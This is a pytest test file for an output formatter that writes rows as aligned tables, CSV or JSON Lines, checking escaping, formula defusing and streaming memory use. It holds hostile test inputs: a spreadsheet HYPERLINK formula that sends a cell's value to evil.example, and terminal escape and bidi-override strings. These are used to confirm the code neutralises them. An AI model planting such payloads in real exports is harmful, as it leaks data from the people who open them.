"""Rows with fixed columns as a table, CSV or JSON Lines: exact headers, defused formulas,
terminal-safe cells, and memory that stays flat however many rows stream through."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest

from watcher.output_formats import CELL_MAX, CHUNK, FORMULA_STARTS, write_rows
from watcher.printable import printable

COLUMNS = ("id", "handle", "name", "follower_count", "verified")
ROWS: list[tuple[Any, ...]] = [
    ("1", "dj_one", "DJ One", 120, True),
    ("22", "b", None, None, False),
]


def written(fmt: str, rows: Any = ROWS, columns: tuple[str, ...] = COLUMNS) -> tuple[int, str]:
    out = io.StringIO()
    count = write_rows(rows, columns, fmt, out)
    return count, out.getvalue()


def test_a_table_has_a_header_and_aligned_columns() -> None:
    count, text = written("table")

    assert count == 2
    assert text.splitlines() == [
        "ID  HANDLE  NAME    FOLLOWER COUNT  VERIFIED",
        "1   dj_one  DJ One  120             yes",
        "22  b       -       -               no",
    ]


def test_table_widths_grow_from_the_chunk_that_needs_them() -> None:
    rows = [(str(i), "x") for i in range(CHUNK)] + [("wide" * 5, "y")]

    _, text = written("table", rows, ("id", "handle"))
    lines = text.splitlines()

    first_chunk = {line.index("x") for line in lines[1 : CHUNK + 1]}
    assert first_chunk == {lines[0].index("HANDLE")}  # aligned among themselves
    assert lines[-1] == "wide" * 5 + "  y"


def test_table_cells_are_one_inert_line_and_bounded() -> None:
    hostile = "Nice\nFAILED forged\x1b[2J\u202eevil"

    _, text = written("table", [("1", hostile), ("2", "n" * 5000)], ("id", "name"))
    lines = text.splitlines()

    assert len(lines) == 3
    assert "Nice\\nFAILED forged\\x1b[2J\\u202eevil" in lines[1]
    assert "\x1b" not in text and "\u202e" not in text
    assert len(lines[2]) == len("2   ") + CELL_MAX and lines[2].endswith("…")


def test_csv_has_exactly_the_header_row_then_one_record_per_row() -> None:
    count, text = written("csv")

    assert count == 2
    assert text.split("\r\n") == [
        "id,handle,name,follower_count,verified",
        "1,dj_one,DJ One,120,true",
        "22,b,,,false",
        "",
    ]


def test_csv_of_no_rows_is_its_header() -> None:
    assert written("csv", []) == (0, "id,handle,name,follower_count,verified\r\n")
    assert written("json", []) == (0, "")
    assert written("table", []) == (0, "")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cells_a_spreadsheet_would_run_are_defused(start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'

    _, text = written("csv", [("1", payload, "=1+1", -5, False)])
    [_, record] = list(csv.reader(io.StringIO(text)))

    assert record[1] == "'" + printable(payload)  # text, shown as written, never run
    assert record[2] == "'=1+1"
    assert record[3] == "-5"  # a number is no formula: left as it is


def test_csv_quotes_what_needs_quoting_and_keeps_each_record_on_one_line() -> None:
    rows = [("1", 'say "hi", then go', "line\nbreak\x07", 0, True)]

    _, text = written("csv", rows)
    records = list(csv.reader(io.StringIO(text)))

    assert text.count("\r\n") == 2
    assert records[1][:3] == ["1", 'say "hi", then go', "line\\nbreak\\x07"]


def test_json_is_one_object_per_line_with_exactly_the_columns() -> None:
    _, text = written("json")
    objects = [json.loads(line) for line in text.splitlines()]

    assert objects == [
        {"id": "1", "handle": "dj_one", "name": "DJ One", "follower_count": 120, "verified": True},
        {"id": "22", "handle": "b", "name": None, "follower_count": None, "verified": False},
    ]


def test_json_escapes_what_a_terminal_acts_on_and_keeps_the_value() -> None:
    _, text = written("json", [("1", "a\u202eb\x9bc")], ("id", "name"))

    assert "\u202e" not in text and "\x9b" not in text
    assert json.loads(text) == {"id": "1", "name": "a\u202eb\x9bc"}


def test_an_unknown_format_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown output format"):
        write_rows([], COLUMNS, "xml", io.StringIO())


class Discard(io.TextIOBase):
    """An output that keeps nothing but the count of characters written."""

    def __init__(self) -> None:
        self.size = 0

    def write(self, text: str) -> int:
        self.size += len(text)
        return len(text)


def many(count: int) -> Iterator[tuple[Any, ...]]:
    for i in range(count):
        yield (str(i), f"handle_{i}", f"Name {i}", i, i % 2 == 0)


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_memory_stays_flat_however_many_rows_stream(fmt: str) -> None:
    peaks = []
    for count in (2_000, 20_000):
        out = Discard()
        tracemalloc.start()
        try:
            assert write_rows(many(count), COLUMNS, fmt, out) == count
            peaks.append(tracemalloc.get_traced_memory()[1])
        finally:
            tracemalloc.stop()
        assert out.size > count * 10
    # Ten times the rows, about the same peak: nothing grows with the row count.
    assert peaks[1] < peaks[0] * 1.5, peaks


@pytest.mark.parametrize("seed", range(5))
def test_csv_chunks_written_whole_read_as_cell_by_cell_would_write_them(seed: int) -> None:
    """The CSV writer takes plain chunks as the csv module writes them; any chunk holding a
    flag, a control character or a formula goes cell by cell. Both must give the same bytes."""
    import random

    from watcher.output_formats import csv_cell

    rng = random.Random(seed)
    pieces = ["a", "Zoë", " ", ",", '"', "=1+1", "-", "+", "@x", "\t", "\r\n", "\x1b[2J"]
    pieces += ["\u202e", "\u200b", "True", "1", "é", "ok"]

    def cell() -> Any:
        kind = rng.random()
        if kind < 0.1:
            return None
        if kind < 0.2:
            return rng.random() < 0.5
        if kind < 0.35:
            return rng.randint(-5, 10**6)
        return "".join(rng.choice(pieces) for _ in range(rng.randint(0, 3)))

    rows = [tuple(cell() for _ in range(4)) for _ in range(CHUNK * 3 + 7)]
    rows[: CHUNK + 5] = [(str(i), f"name {i}", i, "x") for i in range(CHUNK + 5)]  # plain ones
    reference = io.StringIO()
    writer = csv.writer(reference, lineterminator="\r\n")
    writer.writerow(COLUMNS[:4])
    writer.writerows([csv_cell(value) for value in row] for row in rows)

    count, text = written("csv", rows, COLUMNS[:4])

    assert count == len(rows)
    assert text == reference.getvalue()
